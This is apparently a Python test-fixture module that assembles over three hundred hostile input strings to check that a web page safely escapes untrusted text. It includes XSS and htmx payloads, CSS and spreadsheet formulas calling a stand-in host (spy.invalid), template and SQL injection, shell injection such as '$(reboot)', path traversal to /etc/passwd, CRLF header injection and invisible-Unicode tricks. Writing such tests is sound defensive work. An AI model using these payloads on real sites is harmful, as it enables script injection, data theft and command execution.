"""More than three hundred texts that attack whoever shows them.

Each that scripts calls `fired()`, each that fetches names SPY (another host) or TRAP (a
path of ours), so that a page which obeys one of them gives itself away.
"""

from itertools import product

SPY = "https://spy.invalid"
TRAP = "/trap-of-the-test/"
CALL = "fired(1)"

HANDLED = ("img", "svg", "body", "video", "audio", "input", "details", "iframe", "a")
HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onclick")
SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT >",
    f"<script\n>{CALL}</script\n>",
    f"<script src={SPY}/x.js></script>",
    f"<script src={TRAP}x.js></script>",
    f"<script type=module>{CALL}</script>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<<script>{CALL}//<</script>",
    f"<script><!--{CALL}--></script>",
    f"</script><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</title></style></pre><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"`><script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<template><script>{CALL}</script></template>",
    f'<xmp><p title="</xmp><script>{CALL}</script>">',
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"＜script＞{CALL}＜/script＞",
]
ADDRESSES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\nscript:{CALL}",
    f"java\tscript:{CALL}",
    f" javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5maXJlZCgxKTwvc2NyaXB0Pg==",
    f"{SPY}/",
    f"//{SPY.removeprefix('https://')}/",
    f"{TRAP}",
    f"\\\\{SPY.removeprefix('https://')}\\x",
    "/sign-out/",
]
HOLDERS = [
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<img src="{}">',
    '<form action="{}"><button>x</button></form>',
    '<object data="{}"></object>',
    '<link rel=stylesheet href="{}">',
    '<base href="{}">',
    "![x]({})",
    "[x]({})",
]
HTMX = [
    f"<div {prefix}hx-{verb}='{where}' {prefix}hx-trigger='{when}'>x</div>"
    for prefix, verb, where, when in product(
        ("", "data-"), ("get", "post"), (f"{SPY}/", TRAP), ("load", "every 1s")
    )
] + [
    f"<div hx-on:htmx:load='{CALL}' hx-on--load='{CALL}'>x</div>",
    f"<div hx-on:click='{CALL}'>x</div>",
    f"<div hx-vals='js:{{x: {CALL}}}' hx-get='{TRAP}' hx-trigger='revealed'>x</div>",
    f"<div hx-trigger='load[{CALL}]' hx-get='{TRAP}'>x</div>",
    f"<div hx-ext='sse' sse-connect='{TRAP}' sse-swap='x'>x</div>",
    f"<body hx-boost=true><a href='{TRAP}'>x</a>",
]
TEMPLATES = [
    "{{ 7|add:7 }}",
    "{{ request.user }}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% csrf_token %}",
    "{% include 'base.html' %}",
    "{% debug %}",
    "{# hidden #}",
    "{{ stream }}",
    "${7*7}",
    f"${{{CALL}}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('fired(1)')()}}",
    "[[${7*7}]]",
    "{%% if %%}",
    "%(name)s %s %d {0} {name}",
]
STYLES = [
    f"<style>@import '{SPY}/x.css';</style>",
    f"<style>*{{background:url({SPY}/x)}}</style>",
    f"<style>*{{background:url({TRAP}x)}}</style>",
    f"<p style='background:url({SPY}/x)'>x</p>",
    f"<p style=\"background:url('{TRAP}x')\">x</p>",
    "<p style='position:fixed;inset:0;z-index:99999'>x</p>",
    f"<p style='width:expression({CALL})'>x</p>",
    f"</style><style>@font-face{{font-family:x;src:url({SPY}/f)}}</style>",
    f"<div style='animation:x' onanimationstart={CALL}>x</div>",
    "*{display:none!important}",
]
DRAWINGS = [
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=9>x</text></a></svg>",
    f"<svg><image href='{SPY}/x'/></svg>",
    f"<svg><use href='{TRAP}x.svg#x'/></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f'<math><mi//xlink:href="data:x,<script>{CALL}</script>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM '{SPY}/y'>]><x>&y;</x>",
]
FRAMES = [
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe srcdoc='<img src={SPY}/x>'></iframe>",
    f"<embed src='{TRAP}x.swf'>",
    f"<meta http-equiv=refresh content='0;url={SPY}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    f"<portal src='{SPY}'></portal>",
    f"<frameset onload={CALL}>",
    f"<img srcset='{SPY}/x 1x'>",
    f"<picture><source srcset='{TRAP}x'><img></picture>",
    f"<video poster='{SPY}/x'><source src='{TRAP}x'></video>",
    f"<input type=image src='{SPY}/x'>",
    f"<input autofocus onfocus={CALL}>",
    f"<dialog open><form method=dialog><button autofocus onfocus={CALL}>x",
    f"<button formaction='{TRAP}' type=submit>x</button>",
    "<input name=csrfmiddlewaretoken value=x>",
    "<div id=main></div><div id=decision></div><form id=live>",
    "<img name=cookie><form name=htmx><input name=config>",
]
UNSEEN = [
    "safe\u202egnp.exe",
    "\u2066\u2067hidden\u2069\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\u00adsoft\u00adhyphens",
    "\u061c\u200e\u200f marks",
    "tag\U000e0041\U000e0042\U000e007f",
    "x" + "\u0301" * 200,
    "\u115f\u3164\uffa0 fillers",
    "line\u2028separator\u2029paragraph",
    "null\\0 and \\x00",
    "bell\x07 escape\x1b[31m back\x08space",
    "\x7f\x80\x9f controls",
    "\ufffe\uffff noncharacters",
    "раураl.com and ɡооɡle",
    "ﷺ" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30,
    "\r\n\r\nSet-Cookie: x=1\r\nLocation: https://spy.invalid",
    "İıſK\u212a",
]
CELLS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "@SUM(1)",
    f'=HYPERLINK("{SPY}","x")',
    f'=IMPORTXML("{SPY}","//a")',
    "\t=1+1",
    '";=1+1',
    f'=WEBSERVICE("{SPY}")',
]
NOTHINGS = [
    "null", "undefined", "NaN", "Infinity", "-0", "true", "[]", "{}", "0x10", "1e309",
    "None", "__proto__", "constructor", "toString", "hasOwnProperty", "-1", "'", '"',
    "`", "\\", "<", ">", "&", "</", "<!--", "%", "%00", "../../etc/passwd",
    "' OR 1=1 --", "'; DROP TABLE brand; --", "$(reboot)", "`reboot`", "; ls",
]  # fmt: skip
HUGE = [
    "A" * 20_000,
    "<b>" * 3_000,
    "&" * 5_000,
    "word " * 4_000,
    "\n" * 3_000 + "end",
    "W" * 5_000 + "\u200b" + "W" * 5_000,
]
POLYGLOTS = [
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={CALL} )//\x3csVg/"
    f"<sVg/oNloAd={CALL}//>",
    f"'\"--></style></script><svg onload={CALL}>",
    f"\"'><img src=x onerror={CALL}>{{{{7*7}}}}${{7*7}}",
    f'javascript://%0a{CALL}//"></title></textarea></style><script>{CALL}</script>',
    f"<a href=javascript:{CALL} onclick={CALL} style=x:expression({CALL})>x</a>",
    f"</p><p onmouseover='{CALL}'>miracle</p>",
    f"<img/src/onerror={CALL}>",
    f"<img src=x onerror\x0c={CALL}>",
    f"<img src=`x`onerror={CALL}>",
    f"<a\x01href='javascript:{CALL}'>x</a>",
]


def _texts() -> list[str]:
    handlers = [
        f"<{tag} src=x href=x autofocus open {handler}={CALL}>x</{tag}>"
        for tag, handler in product(HANDLED, HANDLERS)
    ]
    families = [
        *(SCRIPTS, HTMX, TEMPLATES, STYLES, DRAWINGS, FRAMES, UNSEEN, CELLS),
        *(NOTHINGS, HUGE, POLYGLOTS, handlers, ADDRESSES),
    ]
    held = [h.format(a) for a, h in product(ADDRESSES, HOLDERS)]
    return [*dict.fromkeys(text for family in [*families, held] for text in family)]


HOSTILE = _texts()
